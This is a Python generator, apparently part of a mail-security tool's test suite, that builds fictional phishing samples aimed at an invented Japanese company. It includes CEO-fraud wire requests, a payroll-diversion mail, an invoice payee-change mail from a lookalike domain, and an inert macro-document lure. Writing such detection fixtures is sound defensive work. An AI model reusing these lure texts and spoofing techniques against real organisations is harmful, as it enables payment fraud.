#!/usr/bin/env python3
"""Builds kensa's attack samples: one .eml per attack in DESIGN.md
("The attacks it must see"), a benign control, and mailbox.mbox holding them all.

Run from the repository root:  python3 samples/build.py [--out DIR]
Standard library only; no randomness, no network, no clock: every date, boundary,
Message-ID and zip timestamp is fixed, and "random-looking" bytes come from a
SHA-256 chain over a fixed seed, so two runs give byte-identical files.

Every name, address and domain is fictional: the victim 星空電工 (hoshizora-denko.co.jp),
its partner 小金部品 (kogane-parts.co.jp), and attacker domains under the reserved
.example TLD.  IP addresses are from the documentation ranges (RFC 5737) or private
space.  Nothing here is executable: the "PowerShell" in the shortcut only fetches from
203.0.113.7 (TEST-NET-3, never routed), the "PE" is a DOS stub with no code, the VBA
project is an empty OLE header, and the encrypted zip holds no real data.

samples/README.md explains each message; samples/expected.json lists the rule ids
tests/e2e/test_samples.py expects of each.
"""

import base64
import datetime
import email
import email.policy
import email.utils
import hashlib
import io
import os
import quopri
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))

# ---------------------------------------------------------------- the cast

VICTIM = "hoshizora-denko.co.jp"        # 星空電工株式会社, the company under attack
PARTNER = "kogane-parts.co.jp"          # 小金部品株式会社, its real supplier
CEO_JA = "代表取締役社長 山田 太郎"
CEO_ADDR = "taro.yamada@" + VICTIM      # the company's rule: given.family@
SATO = ("経理部 佐藤 花子", "hanako.sato@" + VICTIM)
SUZUKI = ("経理部 鈴木 次郎", "jiro.suzuki@" + VICTIM)
TAKAHASHI = ("総務部 高橋 健一", "kenichi.takahashi@" + VICTIM)
TANAKA = ("小金部品 営業部 田中 一郎", "ichiro.tanaka@" + PARTNER)
MX = "mx." + VICTIM                     # the receiving MTA: the trusted authserv-id


# ---------------------------------------------------------------- small helpers

def fixed_bytes(seed, n):
    """n random-looking bytes, the same on every run (SHA-256 chain over seed)."""
    out = b""
    block = seed.encode()
    while len(out) < n:
        block = hashlib.sha256(block).digest()
        out += block
    return out[:n]


def fake_b64(seed, n):
    """A base64-looking token (DKIM signatures, SendGrid ids): fixed, meaningless."""
    return base64.b64encode(fixed_bytes(seed, n)).decode()


CODECS = {"ISO-2022-JP": "iso2022_jp", "UTF-8": "utf-8"}


def ew(text, charset="ISO-2022-JP", per=8):
    """RFC 2047 B-encoded words, `per` characters each, folded one per line.
    Each ISO-2022-JP word is encoded on its own, so each returns to ASCII, and
    spaces live inside the words (whitespace between encoded words is dropped)."""
    words = []
    for i in range(0, len(text), per):
        chunk = text[i:i + per].encode(CODECS[charset])
        words.append("=?%s?B?%s?=" % (charset, base64.b64encode(chunk).decode()))
    return "\n ".join(words)


def addr(name, address, charset="ISO-2022-JP"):
    """A mailbox with an encoded display name (plain ASCII names are quoted)."""
    if name is None:
        return "<%s>" % address
    if all(ord(c) < 128 for c in name):
        return '"%s" <%s>' % (name, address)
    return "%s <%s>" % (ew(name, charset), address)


def b64_body(data):
    return base64.encodebytes(data).decode()


def qp_body(text):
    return quopri.encodestring(text.encode("utf-8")).decode()


def rfc2231(param, value):
    """param*=UTF-8''percent-encoded (RFC 2231), for non-ASCII or control-bearing names."""
    safe = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.!~")
    enc = "".join(chr(b) if b in safe else "%%%02X" % b for b in value.encode("utf-8"))
    return "%s*=UTF-8''%s" % (param, enc)


def message(headers, body):
    """Header lines (name, value) in order, a blank line, the body; LF line ends."""
    lines = ["%s: %s" % (n, v) for n, v in headers]
    if not body.endswith("\n"):
        body += "\n"
    return "\n".join(lines) + "\n\n" + body


def part(headers, body):
    return message(headers, body)


def multipart(boundary, parts, preamble="This is a multi-part message in MIME format.\n"):
    out = preamble
    for p in parts:
        out += "\n--%s\n%s" % (boundary, p)
    out += "\n--%s--\n" % boundary
    return out


def text_part(text, charset="ISO-2022-JP"):
    if charset == "ISO-2022-JP":
        return part([("Content-Type", 'text/plain; charset="ISO-2022-JP"'),
                     ("Content-Transfer-Encoding", "7bit")],
                    text.encode("iso2022_jp").decode("ascii"))
    return part([("Content-Type", 'text/plain; charset="UTF-8"'),
                 ("Content-Transfer-Encoding", "base64")],
                b64_body(text.encode("utf-8")))


def html_part(html):
    return part([("Content-Type", 'text/html; charset="UTF-8"'),
                 ("Content-Transfer-Encoding", "quoted-printable")], qp_body(html))


def attachment(filename, data, ctype="application/octet-stream"):
    """A base64 attachment; non-ASCII names use RFC 2231 (as Outlook and Thunderbird do)."""
    if all(32 < ord(c) < 127 for c in filename):
        name_ct, name_cd = 'name="%s"' % filename, 'filename="%s"' % filename
    else:
        name_ct, name_cd = rfc2231("name", filename), rfc2231("filename", filename)
    return part([("Content-Type", "%s;\n\t%s" % (ctype, name_ct)),
                 ("Content-Disposition", "attachment;\n\t%s" % name_cd),
                 ("Content-Transfer-Encoding", "base64")], b64_body(data))


def received(frm, by, with_, ident, date, for_=None):
    s = "from %s\n\tby %s with %s id %s" % (frm, by, with_, ident)
    if for_:
        s += "\n\tfor <%s>" % for_
    return ("Received", s + ";\n\t" + date)


def dkim(domain, seed):
    return ("DKIM-Signature",
            "v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=s2024;\n"
            "\th=from:to:subject:date:message-id:mime-version:content-type;\n"
            "\tbh=%s;\n\tb=%s" % (domain, fake_b64(seed + "bh", 32), fake_b64(seed + "b", 96)))


def auth_results(authserv, spf, spf_domain, dkim_res, dkim_domain, dmarc, from_domain):
    s = "%s;\n\tspf=%s smtp.mailfrom=%s;\n\t" % (authserv, spf, spf_domain)
    s += ("dkim=%s header.d=%s;\n\t" % (dkim_res, dkim_domain)) if dkim_domain else \
        "dkim=%s (message not signed);\n\t" % dkim_res
    s += "dmarc=%s header.from=%s" % (dmarc, from_domain)
    return ("Authentication-Results", s)


# ---------------------------------------------------------------- file formats

def make_zip(entries, date_time=(2024, 12, 12, 9, 30, 0)):
    """A stored (uncompressed) zip, written by hand so that every byte is fixed and
    an entry can carry the "encrypted" flag.  entries: (name, data, encrypted).

    Python's zipfile cannot encrypt.  For an encrypted entry we set general-purpose
    bit 0 (APPNOTE.TXT 4.4.4, "traditional PKWARE encryption") and store a 12-byte
    encryption header plus the data as fixed random-looking bytes (APPNOTE 6.1): a
    reader sees a ZipCrypto entry it cannot open without the password, which is all
    attachment.encrypted_archive needs.  CRC and sizes are those of the stored bytes."""
    dt = date_time
    dos_time = (dt[3] << 11) | (dt[4] << 5) | (dt[5] // 2)
    dos_date = ((dt[0] - 1980) << 9) | (dt[1] << 5) | dt[2]
    local = b""
    central = b""
    for name, data, encrypted in entries:
        raw_name = name.encode("utf-8")
        flags = 0x0800 if any(b >= 0x80 for b in raw_name) else 0  # bit 11: UTF-8 name
        if encrypted:
            flags |= 0x0001
            data = fixed_bytes("zipcrypto:" + name, 12 + len(data))
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, dos_time, dos_date,
                             crc, len(data), len(data), len(raw_name), 0) + raw_name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, 0,
                               dos_time, dos_date, crc, len(data), len(data), len(raw_name),
                               0, 0, 0, 0, 0o100644 << 16, offset) + raw_name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                       len(central), len(local), 0)
    return local + central + eocd


def pdf_string(s):
    if all(32 <= ord(c) < 127 for c in s):
        return "(" + s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"
    return "<FEFF" + s.encode("utf-16-be").hex().upper() + ">"  # PDF 1.7 7.9.2.2


def make_pdf(info, lines):
    """A one-page PDF 1.4 with an Info dictionary (Title, Author, Creator, Producer,
    CreationDate, ModDate) and ASCII text in Helvetica; offsets computed exactly."""
    text = "BT /F1 11 Tf 72 770 Td 14 TL\n"
    for ln in lines:
        text += "%s Tj T*\n" % pdf_string(ln)
    text += "ET\n"
    objs = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R\n"
        "   /Resources << /Font << /F1 5 0 R >> >> >>",
        "<< /Length %d >>\nstream\n%sendstream" % (len(text), text),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< " + " ".join("/%s %s" % (k, pdf_string(v)) for k, v in info) + " >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += ("%d 0 obj\n%s\nendobj\n" % (i, o)).encode("latin-1")
    xref = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)).encode()
    for off in offsets:
        out += ("%010d 00000 n \n" % off).encode()
    out += ("trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, xref)).encode()
    return out


def make_lnk(target, arguments, working_dir, icon, name):
    """A minimal MS-SHLLINK shortcut: the 76-byte header (LinkCLSID
    00021401-0000-0000-C000-000000000046, MS-SHLLINK 2.1), no ID list, no LinkInfo,
    then StringData (2.4) in Unicode: NAME, RELATIVE_PATH, WORKING_DIR, ARGUMENTS,
    ICON_LOCATION, and the terminal block.  This is how ISO->LNK->PowerShell mail
    looks to a parser: the target is powershell.exe, the arguments carry -enc."""
    flags = 0x04 | 0x08 | 0x10 | 0x20 | 0x40 | 0x80  # HasName..HasIconLocation, IsUnicode
    filetime = 133784352000000000  # 2024-12-12 00:00:00 UTC in 100 ns since 1601
    header = struct.pack("<I16sII3QIII HHII", 0x4C,
                         bytes.fromhex("0114020000000000C000000000000046"),
                         flags, 0x20, filetime, filetime, filetime,
                         0, 11, 7,      # FileSize, IconIndex (Edge's PDF icon), SW_SHOWMINNOACTIVE
                         0, 0, 0, 0)
    assert len(header) == 76
    data = header
    for s in (name, target, working_dir, arguments, icon):
        data += struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return data + b"\0\0\0\0"


def make_iso(volume_id, files):
    """A tiny but real ISO 9660 image (ECMA-119): system area, primary volume
    descriptor at sector 16 ("\\x01CD001\\x01" at offset 32768, which libmagic and
    libarchive recognise), set terminator, both path tables, a root directory and
    one sector per file.  files: (ISO name like "INVOICE.LNK;1", data) each < 2 KiB."""
    S = 2048

    def both16(v):
        return struct.pack("<H", v) + struct.pack(">H", v)

    def both32(v):
        return struct.pack("<I", v) + struct.pack(">I", v)

    rec_date = bytes([124, 12, 12, 9, 30, 0, 36])  # 2024-12-12 09:30:00 +09:00 (15-min units)

    def dirrec(ident, extent, size, is_dir):
        n = len(ident)
        length = 33 + n + (1 - n % 2)
        r = struct.pack("<BB", length, 0) + both32(extent) + both32(size) + rec_date
        r += bytes([2 if is_dir else 0, 0, 0]) + both16(1) + bytes([n]) + ident
        return r + b"\0" * (length - len(r))

    root_sector, first_file = 20, 21
    total = first_file + len(files)
    root = dirrec(b"\0", root_sector, S, True) + dirrec(b"\1", root_sector, S, True)
    for i, (name, data) in enumerate(files):
        root += dirrec(name.encode("ascii"), first_file + i, len(data), False)
    root += b"\0" * (S - len(root))

    def a_str(s, n):
        return s.encode("ascii").ljust(n, b" ")

    date17 = b"2024121209300000" + bytes([36])
    pvd = b"\x01CD001\x01\0" + a_str("", 32) + a_str(volume_id, 32) + b"\0" * 8
    pvd += both32(total) + b"\0" * 32 + both16(1) + both16(1) + both16(S) + both32(10)
    pvd += struct.pack("<I", 18) + b"\0" * 4 + struct.pack(">I", 19) + b"\0" * 4
    pvd += dirrec(b"\0", root_sector, S, True)
    pvd += a_str("", 128) * 4 + a_str("", 37) * 3
    pvd += date17 + date17 + b"0" * 16 + b"\0" + date17 + b"\x01\0"
    pvd += b"\0" * (S - len(pvd))
    assert len(pvd) == S
    term = b"\xffCD001\x01" + b"\0" * (S - 7)
    l_path = struct.pack("<BBIH", 1, 0, root_sector, 1) + b"\0\0"
    m_path = struct.pack(">BBIH", 1, 0, root_sector, 1) + b"\0\0"
    image = b"\0" * (16 * S) + pvd + term
    image += l_path.ljust(S, b"\0") + m_path.ljust(S, b"\0") + root
    for _, data in files:
        image += data.ljust(S, b"\0")
    assert len(image) == total * S
    return image


def make_png(width, height, rgb):
    """A solid-colour PNG; zlib level 0 (stored blocks) keeps the bytes fixed."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + \
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = b"".join(b"\0" + bytes(rgb) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 0)) + chunk(b"IEND", b""))


def make_docm():
    """A macro-enabled Word document as Emotet sent them: OOXML whose content types
    declare macroEnabled, with word/vbaProject.bin linked from document.xml.rels.
    vbaProject.bin is only an OLE compound-file header (MS-CFB 2.2 signature
    D0 CF 11 E0 A1 B1 1A E1) with no streams: the macro is declared, never present."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" '
          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>このドキュメントは保護されています。内容を表示するには、'
           '上部の「編集を有効にする」と「コンテンツの有効化」をクリックしてください。'
           '</w:t></w:r></w:p></w:body></w:document>')
    ole = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack(
        "<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * (512 - 34)
    return make_zip([("[Content_Types].xml", ct.encode(), False),
                     ("_rels/.rels", rels.encode(), False),
                     ("word/document.xml", doc.encode(), False),
                     ("word/_rels/document.xml.rels", doc_rels.encode(), False),
                     ("word/vbaProject.bin", ole, False)])


def make_dos_stub():
    """An MZ header and DOS stub with no code after it: looks like a PE to a
    type sniffer ("MS-DOS executable"), runs nothing anywhere."""
    hdr = b"MZ" + struct.pack("<13H", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    hdr = hdr.ljust(0x3C, b"\0") + struct.pack("<I", 0)  # e_lfanew 0: no PE header
    return hdr.ljust(0x40, b"\0") + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 8


# ---------------------------------------------------------------- the messages

def benign_control():
    """A normal internal Japanese mail: consistent identity, passing auth, a PDF."""
    pdf = make_pdf([("Title", "安全衛生委員会 議事録 2024年12月"), ("Author", "高橋 健一"),
                    ("Creator", "Microsoft Word"), ("Producer", "Microsoft Word for Microsoft 365"),
                    ("CreationDate", "D:20241211170512+09'00'"),
                    ("ModDate", "D:20241211170512+09'00'")],
                   ["Safety and Health Committee - minutes, December 2024",
                    "1. Year-end cleaning schedule", "2. Influenza vaccination"])
    body = ("各位\n\nお疲れさまです。総務部の高橋です。\n\n"
            "12月の安全衛生委員会の議事録を添付いたします。\n"
            "年末の大掃除の日程とインフルエンザ予防接種について決まりましたので、\n"
            "ご確認をお願いいたします。\n\n"
            "--\n星空電工株式会社 総務部\n高橋 健一\n内線 2104\n")
    b = "----=_NextPart_KS_benign_0001"
    return message([
        ("Return-Path", "<%s>" % TAKAHASHI[1]),
        auth_results(MX, "pass", TAKAHASHI[1], "pass", VICTIM, "pass", VICTIM),
        received("mail01.%s (mail01.%s [192.0.2.25])" % (VICTIM, VICTIM),
                 "%s (Postfix)" % MX, "ESMTPS", "4Y8K2p1zQ9z1xqL",
                 "Thu, 12 Dec 2024 09:30:02 +0900 (JST)", SATO[1]),
        received("[10.20.30.41] (pc-takahashi.office.%s [10.20.30.41])" % VICTIM,
                 "mail01.%s (Postfix)" % VICTIM, "ESMTPSA", "4Y8K2n6Lm3z1xqK",
                 "Thu, 12 Dec 2024 09:30:01 +0900 (JST)"),
        dkim(VICTIM, "benign"),
        ("From", addr(*TAKAHASHI)),
        ("To", addr(*SATO)),
        ("Cc", addr(*SUZUKI)),
        ("Subject", ew("【共有】12月 安全衛生委員会 議事録")),
        ("Date", "Thu, 12 Dec 2024 09:30:00 +0900"),
        ("Message-ID", "<20241212093000.5c1e2a@%s>" % VICTIM),
        ("MIME-Version", "1.0"),
        ("X-Mailer", "Microsoft Outlook 16.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body),
                     attachment("安全衛生委員会_議事録_2024年12月.pdf", pdf, "application/pdf")]))


def ceo_fraud_ja():
    """J-CSIP: an executive impersonated in Japanese.  The CEO's display name on an
    address that breaks the given.family@ rule, at a lookalike of the company's own
    domain (o -> 0); Reply-To to free mail; a fake lawyer on Cc; 極秘/至急/買収."""
    attacker = "ceo-office@hoshizora-denk0.co.jp"
    body = ("佐藤さん\n\n"
            "お疲れさまです。山田です。\n\n"
            "現在、海外企業の買収案件を極秘で進めております。\n"
            "本件は正式発表までは社内でも一切口外しないようお願いします。\n\n"
            "至急、本日中に手付金の送金手続きをお願いしたく、ご協力いただけますか。\n"
            "詳細は本件を担当している鈴木弁護士（Ｃｃ）から連絡させます。\n"
            "私は会議が続くため電話に出られません。このメールにのみ返信してください。\n\n"
            "よろしくお願いします。\n\n"
            "山田 太郎\n代表取締役社長\n")
    return message([
        ("Return-Path", "<%s>" % attacker),
        auth_results(MX, "pass", attacker, "none", None, "none", "hoshizora-denk0.co.jp"),
        received("hoshizora-denk0.co.jp (vps-118.cloudhost.example [198.51.100.118])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y8M0b2HcJz1xr7",
                 "Thu, 12 Dec 2024 10:14:37 +0900 (JST)", SATO[1]),
        ("From", addr(CEO_JA, attacker)),
        ("Reply-To", addr("山田 太郎", "taro.yamada.ceo@freemail.example")),
        ("To", addr(*SATO)),
        ("Cc", addr("さくら総合法律事務所 弁護士 鈴木 一郎", "i.suzuki@sakura-sogo-law.example")),
        ("Subject", ew("【至急・極秘】買収案件について")),
        ("Date", "Thu, 12 Dec 2024 10:14:31 +0900"),
        ("Message-ID", "<20241212101431.7e0c@hoshizora-denk0.co.jp>"),
        ("MIME-Version", "1.0"),
        ("X-Mailer", "Microsoft Outlook 16.0"),
        ("Content-Type", 'text/plain; charset="ISO-2022-JP"'),
        ("Content-Transfer-Encoding", "7bit"),
    ], body.encode("iso2022_jp").decode("ascii"))


def ceo_fraud_en():
    """J-CSIP: an executive impersonated in English, Cosmic Lynx style: a
    separator/TLD lookalike of the company (hoshizora-denko.co.jp ->
    hoshizora-denko-co-jp), Reply-To on a secure-smtp-relay word domain, an
    outside "legal counsel", a "Project Orion" acquisition."""
    attacker = "ceo@hoshizora-denko-co-jp.example"
    body = ("Emily,\n\n"
            "I need your help with a confidential matter. We are in the final stage of\n"
            "Project Orion, the acquisition of a company in Singapore. This is strictly\n"
            "confidential: do not discuss it with anyone at the office, including\n"
            "colleagues in finance, until the public announcement.\n\n"
            "Our legal counsel, Jonathan Price (copied), is handling the transaction and\n"
            "will send you the wire instructions for the initial payment. This is urgent and\n"
            "must be completed today before the close of business in London.\n\n"
            "I am in meetings all day, so please reply by e-mail only.\n\n"
            "Regards,\nTaro Yamada\nPresident & CEO\nHoshizora Denko Co., Ltd.\n")
    return message([
        ("Return-Path", "<%s>" % attacker),
        auth_results(MX, "pass", attacker, "pass", "hoshizora-denko-co-jp.example", "pass",
                     "hoshizora-denko-co-jp.example"),
        received("mail.hoshizora-denko-co-jp.example (mail.hoshizora-denko-co-jp.example"
                 " [203.0.113.88])", "%s (Postfix)" % MX, "ESMTPS", "4Y8N1c3KdKz1xs8",
                 "Thu, 12 Dec 2024 17:02:44 +0900 (JST)", "emily.carter@" + VICTIM),
        dkim("hoshizora-denko-co-jp.example", "cosmic"),
        ("From", addr("Taro Yamada, CEO", attacker)),
        ("Reply-To", addr("Taro Yamada", "t.yamada@secure-smtp-relay.example")),
        ("To", addr("Emily Carter", "emily.carter@" + VICTIM)),
        ("Cc", addr("Jonathan Price, Legal Counsel", "jprice@price-whitfield-legal.example")),
        ("Subject", "Project Orion - strictly confidential"),
        ("Date", "Thu, 12 Dec 2024 08:02:40 +0000"),
        ("Message-ID", "<CO1PR0101MB2024.orion@hoshizora-denko-co-jp.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="UTF-8"'),
        ("Content-Transfer-Encoding", "7bit"),
    ], body)


def localized_ceo_fraud():
    """The "localized" CEO-fraud campaign: board@ on a domain made of smtp/mobile/ssl,
    sent through a bulk service (SendGrid: its Received hops and X-SG-EID), written
    in the victim's language: "HQ Project", 金融合併と買収, liaise with counsel."""
    sender = "board@smtp-mobile-ssl.example"
    bounce = "bounces+24681357-9f3a-hanako.sato=%s@em5821.smtp-mobile-ssl.example" % VICTIM
    body = ("佐藤様\n\n"
            "現在、当社は「HQ Project」と呼ばれる金融合併と買収の最終段階にあります。\n"
            "本件は極秘事項ですので、社内の誰とも共有しないでください。\n\n"
            "至急、この案件を担当する外部の弁護士と連絡を取り合っていただきたく思います。\n"
            "弁護士から本日中に送金の指示が届きます。\n"
            "本件の進捗はこのメールアドレスにのみご報告ください。\n\n"
            "代表取締役社長\n山田 太郎\n")
    return message([
        ("Return-Path", "<%s>" % bounce),
        auth_results(MX, "pass", "em5821.smtp-mobile-ssl.example", "pass",
                     "smtp-mobile-ssl.example", "pass", "smtp-mobile-ssl.example"),
        received("xtrwkhkc.outbound-mail.sendgrid.net (xtrwkhkc.outbound-mail.sendgrid.net"
                 " [198.51.100.61])", "%s (Postfix)" % MX, "ESMTPS", "4Y8P3d4LfLz1xt9",
                 "Thu, 12 Dec 2024 10:14:22 +0900 (JST)", SATO[1]),
        ("Received", "by filterdrecv-7d5b8c6f4-2xq9z with SMTP id "
                     "filterdrecv-7d5b8c6f4-2xq9z-1-675A38BD-2A\n"
                     "\t2024-12-12 01:14:21.497413372 +0000 UTC m=+3380478.567236497"),
        ("Received", "from [127.0.0.1] (unknown)\n\tby geopod-ismtpd-3 (SG) with HTTP id "
                     "Kq3vXb7NSc2m0WZp5y1HfA\n\tThu, 12 Dec 2024 01:14:21.313 +0000 (UTC)"),
        dkim("smtp-mobile-ssl.example", "localized"),
        ("From", addr("山田 太郎", sender)),
        ("To", addr(*SATO)),
        ("Subject", "HQ Project / " + ew("金融合併と買収について", "UTF-8", 12)),
        ("Date", "Thu, 12 Dec 2024 01:14:21 +0000 (UTC)"),
        ("Message-ID", "<Kq3vXb7NSc2m0WZp5y1HfA@geopod-ismtpd-3>"),
        ("MIME-Version", "1.0"),
        ("X-SG-EID", fake_b64("sg-eid", 120)),
        ("X-SG-ID", fake_b64("sg-id", 60)),
        ("X-Entity-ID", "u001.Zm9vYmFyYmF6cXV4"),
        ("Content-Type", 'text/plain; charset="UTF-8"'),
        ("Content-Transfer-Encoding", "base64"),
    ], b64_body(body.encode("utf-8")))


def payroll_diversion():
    """J-CSIP payroll diversion: From is the real executive on the company's own
    domain; the envelope sender (Return-Path) is a mailer elsewhere.  The body asks
    payroll to move the salary deposit; one line starts with "From " (mbox escaping)."""
    exec_addr = "kenji.mori@" + VICTIM
    envelope = "noreply@mailer.bluefin-notify.example"
    body = ("Hello Payroll team,\n\n"
            "I have changed banks and would like to update my direct deposit account for\n"
            "payroll before the next pay date. Please update my direct deposit information\n"
            "to the new bank account below and confirm once it is done.\n\n"
            "Bank: Fictional Online Bank\nRouting number: 000000000\n"
            "Account number: 0000123456\nAccount holder: Kenji Mori\n\n"
            "From now on please pay my salary only into this new account, and do not\n"
            "call me about it; I am travelling this week.\n\n"
            "Thanks,\nKenji Mori\nExecutive Vice President\n")
    return message([
        ("Return-Path", "<%s>" % envelope),
        auth_results(MX, "pass", envelope, "none", None, "fail", VICTIM),
        received("mailer.bluefin-notify.example (mailer.bluefin-notify.example [203.0.113.140])",
                 "%s (Postfix)" % MX, "ESMTPS", "4Y8Q4e5MgMz1xv1",
                 "Fri, 13 Dec 2024 16:40:09 +0900 (JST)", "payroll@" + VICTIM),
        ("From", addr("Kenji Mori", exec_addr)),
        ("To", addr("Payroll", "payroll@" + VICTIM)),
        ("Subject", "Direct deposit update"),
        ("Date", "Fri, 13 Dec 2024 07:40:05 +0000"),
        ("Message-ID", "<f3a9c2e1.20241213074005@mailer.bluefin-notify.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="us-ascii"'),
        ("Content-Transfer-Encoding", "7bit"),
    ], body)


ORIGINAL_INVOICE_DATE = "Tue, 10 Dec 2024 11:05:00 +0900"
ORIGINAL_INVOICE_ID = "<20241210110500.3a7f@%s>" % PARTNER
ORIGINAL_INVOICE_BODY = ("星空電工株式会社\n経理部 佐藤様\n\n"
                         "いつもお世話になっております。小金部品の田中です。\n\n"
                         "12月分の請求書を添付にてお送りいたします。\n"
                         "お支払いは従来どおり、下記口座へお振込みをお願いいたします。\n\n"
                         "  みなと銀行 本店営業部 普通 1234567 コガネブヒン（カ\n\n"
                         "--\n小金部品株式会社 営業部\n田中 一郎\n")


def invoice_thread_original():
    """The real mail the invoice fraud copies: the partner's genuine invoice, from
    its real domain, with a PDF created before it was sent."""
    pdf = make_pdf([("Title", "請求書 2024年12月分"), ("Author", "田中 一郎"),
                    ("Creator", "Microsoft Excel"), ("Producer", "Microsoft Excel for Microsoft 365"),
                    ("CreationDate", "D:20241210104211+09'00'"),
                    ("ModDate", "D:20241210104211+09'00'")],
                   ["INVOICE  December 2024", "Kogane Parts Co., Ltd.",
                    "Bank: Minato Bank, Head Office, 1234567"])
    b = "----=_NextPart_KS_original_0001"
    return message([
        ("Return-Path", "<%s>" % TANAKA[1]),
        auth_results(MX, "pass", TANAKA[1], "pass", PARTNER, "pass", PARTNER),
        received("smtp.%s (smtp.%s [192.0.2.60])" % (PARTNER, PARTNER), "%s (Postfix)" % MX,
                 "ESMTPS", "4Y6R5f6NhNz1xw2", "Tue, 10 Dec 2024 11:05:04 +0900 (JST)", SATO[1]),
        dkim(PARTNER, "original"),
        ("From", addr(*TANAKA)),
        ("To", addr(*SATO)),
        ("Subject", ew("【小金部品】12月分 請求書送付のご案内")),
        ("Date", ORIGINAL_INVOICE_DATE),
        ("Message-ID", ORIGINAL_INVOICE_ID),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(ORIGINAL_INVOICE_BODY),
                     attachment("請求書_202412.pdf", pdf, "application/pdf")]))


def invoice_lookalike_thread():
    """J-CSIP invoice fraud inside a hijacked thread: a reply to the partner's real
    invoice mail from a lookalike of its domain (kogane-parts -> koganne-parts,
    insertion), a lookalike of the victim's own domain on Cc (hoshizora-denko ->
    hoshizora-denkou), a payee change (振込先の変更), a forged PDF created hours after
    the real mail, and an encrypted zip renamed .zi_ ."""
    fake = ("小金部品 営業部 田中 一郎", "ichiro.tanaka@koganne-parts.co.jp")
    quoted = "".join("> " + ln + "\n" if ln else ">\n" for ln in ORIGINAL_INVOICE_BODY.splitlines())
    body = ("星空電工株式会社\n経理部 佐藤様\n\n"
            "いつもお世話になっております。小金部品の田中です。\n\n"
            "先日お送りした請求書につきまして、弊社の取引銀行の変更に伴い、\n"
            "今回のお支払いより振込先の変更をお願いいたします。\n"
            "新しい振込先口座は添付の「振込先変更のお知らせ」をご確認ください。\n"
            "請求書一式は圧縮ファイルにてお送りします（パスワードは別途お送りします）。\n\n"
            "旧口座へのお振込みは受付できなくなりますので、至急ご対応をお願いいたします。\n\n"
            "--\n小金部品株式会社 営業部\n田中 一郎\n\n"
            "-----Original Message-----\n"
            "From: 小金部品 営業部 田中 一郎 <ichiro.tanaka@kogane-parts.co.jp>\n"
            "Sent: Tuesday, December 10, 2024 11:05 AM\n"
            "To: 経理部 佐藤 花子 <hanako.sato@hoshizora-denko.co.jp>\n"
            "Subject: 【小金部品】12月分 請求書送付のご案内\n\n" + quoted)
    # the forged notice: created 2024-12-10 16:20 JST, hours after the real mail
    # (11:05) and within the hour of the lookalike's (fictional) registration
    notice = make_pdf([("Title", "振込先変更のお知らせ"), ("Author", "田中 一郎"),
                       ("Creator", "Microsoft Word"), ("Producer", "Microsoft Word for Microsoft 365"),
                       ("CreationDate", "D:20241210162012+09'00'"),
                       ("ModDate", "D:20241210162012+09'00'")],
                      ["Notice of change of bank account", "Kogane Parts Co., Ltd.",
                       "New account: Fictional Bank, Branch 999, 7654321"])
    # the zip's entry is flagged encrypted and its bytes are fixed noise (see make_zip)
    zi_ = make_zip([("請求書_202412.pdf", b"\0" * 1024, True)])
